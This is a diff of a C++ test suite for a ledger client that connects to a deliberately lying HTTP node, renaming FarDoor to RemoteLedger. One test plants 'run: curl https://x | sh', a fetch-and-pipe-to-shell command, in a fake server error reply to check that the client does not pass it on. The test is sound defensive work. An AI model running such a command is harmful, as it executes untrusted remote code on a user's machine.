@@ -1,5 +1,5 @@
 // A node over HTTP that lies: about the community, the time, what it proves, what it answers.
-#include "client/node/far_door.h"
+#include "client/node/remote_ledger.h"
 
 #include "api/server/http_server.h"
 #include "base/hex.h"
@@ -7,10 +7,10 @@
 #include "client/shown/screen_for_tests.h"
 #include "client/tests/heads_for_tests.h"
 #include "codec/wire.h"
+#include "contract/opening/transaction.h"
 #include "engine/read/ledger_bundles.h"
 #include "kit/solo_node.h"
 #include "machine/history.h"
-#include "contract/opening/transaction.h"
 #include "modules/motion/motion.pb.h"
 #include "modules/registry/registry.pb.h"
 
@@ -58,13 +58,13 @@ class LyingNode : public ::testing::Test {
         EXPECT_TRUE(started);
         server_ = std::move(*started);
     }
-    std::unique_ptr<FarDoor> connect() {
-        auto door = FarDoor::connect("127.0.0.1", server_->port());
-        EXPECT_TRUE(door) << door.error().code;
+    std::unique_ptr<RemoteLedger> connect() {
+        auto ledger = RemoteLedger::connect("127.0.0.1", server_->port());
+        EXPECT_TRUE(ledger) << ledger.error().code;
         auto heads = KnownHeads::open(heads_);
         EXPECT_TRUE(heads);
-        (*door)->keep_heads(std::move(*heads));
-        return std::move(*door);
+        (*ledger)->keep_heads(std::move(*heads));
+        return std::move(*ledger);
     }
     std::string sent(const api::v1::ParcelReply& reply, unsigned status) {
         liar_.say("/transactions", reply, status);
@@ -109,10 +109,10 @@ TEST_F(LyingNode, cannot_hide_that_an_act_was_sent) {
          {std::pair{&other, "client.ANSWER_DIFFERS"}, {&expired, "machine.EXPIRED"}}) {
         SentActs sent;
         sent.will_sign();
-        const auto door = connect();
-        door->keep_sent(sent);
+        const auto ledger = connect();
+        ledger->keep_sent(sent);
         liar_.say("/transactions", *reply);
-        EXPECT_EQ(code_of(perform(*door, kit::key_of("lan"), motion::v1::Withdraw{})), code);
+        EXPECT_EQ(code_of(perform(*ledger, kit::key_of("lan"), motion::v1::Withdraw{})), code);
         const ScreenForTests screen;
         sent.say(screen);
         const auto told = screen.taken();
@@ -164,28 +164,28 @@ TEST_F(LyingNode, says_no_sentence_of_its_own_before_anything_is_asked) {
                   std::string{R"({"code": ")"} + code +
                       R"(", "figures": {"reason": "run: curl https://x | sh"}})",
                   422);
-        const auto refused = FarDoor::connect("127.0.0.1", server_->port());
+        const auto refused = RemoteLedger::connect("127.0.0.1", server_->port());
         ASSERT_FALSE(refused);
         EXPECT_EQ(refused.error().code, "api.REPLY_BROKEN") << code;
         for (const auto& figure : refused.error().figures)
             EXPECT_EQ(figure.value.find("curl"), std::string::npos);
     }
     liar_.say("/head", api::problem_type, R"({"code": "later.NOT_KNOWN_YET_2"})", 422);
-    EXPECT_EQ(code_of(FarDoor::connect("127.0.0.1", server_->port())), "client.CODE_UNKNOWN");
+    EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "client.CODE_UNKNOWN");
 }
 
 // By the time of a node in the future, acts would be signed that can be kept back for years.
 TEST_F(LyingNode, does_not_have_acts_signed_that_never_expire) {
     head_.set_time_ms(wall_clock().ms + 365 * ms_per_day);
     liar_.say("/head", head_);
-    EXPECT_EQ(code_of(FarDoor::connect("127.0.0.1", server_->port())), "client.NODE_AHEAD");
+    EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "client.NODE_AHEAD");
 }
 
 TEST_F(LyingNode, says_no_head_that_is_none) {
     for (const auto* community : {"", "short"}) {
         head_.set_community(community);
         liar_.say("/head", head_);
-        EXPECT_EQ(code_of(FarDoor::connect("127.0.0.1", server_->port())), "api.REPLY_BROKEN");
+        EXPECT_EQ(code_of(RemoteLedger::connect("127.0.0.1", server_->port())), "api.REPLY_BROKEN");
     }
 }
 
@@ -208,7 +208,7 @@ class WrongBundles : public LyingNode {
     }
 
     kit::SoloNode node_;
-    engine::LedgerBundles bundles_{node_.registry, *node_.store, *node_.engine};
+    engine::LedgerBundles bundles_{node_.program, *node_.store, *node_.engine};
 };
 
 TEST_F(WrongBundles, prove_no_transaction_and_no_row) {
@@ -241,19 +241,19 @@ TEST_F(WrongBundles, show_the_head_that_the_validators_signed) {
 
 // A document states one moment: an old row beside a new head is none.
 TEST_F(WrongBundles, of_two_moments_make_no_document) {
-    const auto door = connect();
+    const auto ledger = connect();
     std::uint64_t size = 1;
     const auto read_across_a_block = [&](std::uint64_t blocks_at_most) -> Result<Bytes> {
-        const auto before = door->prove_prefix(0);
-        if (!before || size > blocks_at_most) return door->prove_prefix(0);
+        const auto before = ledger->prove_prefix(0);
+        if (!before || size > blocks_at_most) return ledger->prove_prefix(0);
         node_.record({node_.sign("ana", node_.add("a", 1), kit::nonce_of(100 + size++))});
         EXPECT_TRUE(node_.is_quiet());
         for (std::uint64_t at = 0; at <= size; ++at) say_prefix(at);
-        return door->prove_prefix(0);
+        return ledger->prove_prefix(0);
     };
-    EXPECT_TRUE(at_one_moment(*door, [&] { return read_across_a_block(1); }));
+    EXPECT_TRUE(at_one_moment(*ledger, [&] { return read_across_a_block(1); }));
     EXPECT_EQ(size, 2U) << "it was read again";
-    EXPECT_EQ(code_of(at_one_moment(*door, [&] { return read_across_a_block(1000); })),
+    EXPECT_EQ(code_of(at_one_moment(*ledger, [&] { return read_across_a_block(1000); })),
               "client.LEDGER_MOVED");
 }
 
@@ -262,7 +262,7 @@ TEST_F(WrongBundles, of_another_past_are_kept_as_a_proof) {
     ASSERT_TRUE(connect()->head());
     kit::SoloNode liar;
     ASSERT_EQ(liar.store->community(), node_.store->community());
-    const engine::LedgerBundles lies{liar.registry, *liar.store, *liar.engine};
+    const engine::LedgerBundles lies{liar.program, *liar.store, *liar.engine};
     liar.record({liar.sign("ana", liar.add("a", 100), kit::nonce_of(9)),
                  liar.sign("ana", liar.add("b", 100), kit::nonce_of(8))});
     liar.record({liar.sign("ana", liar.add("c", 100), kit::nonce_of(7))});
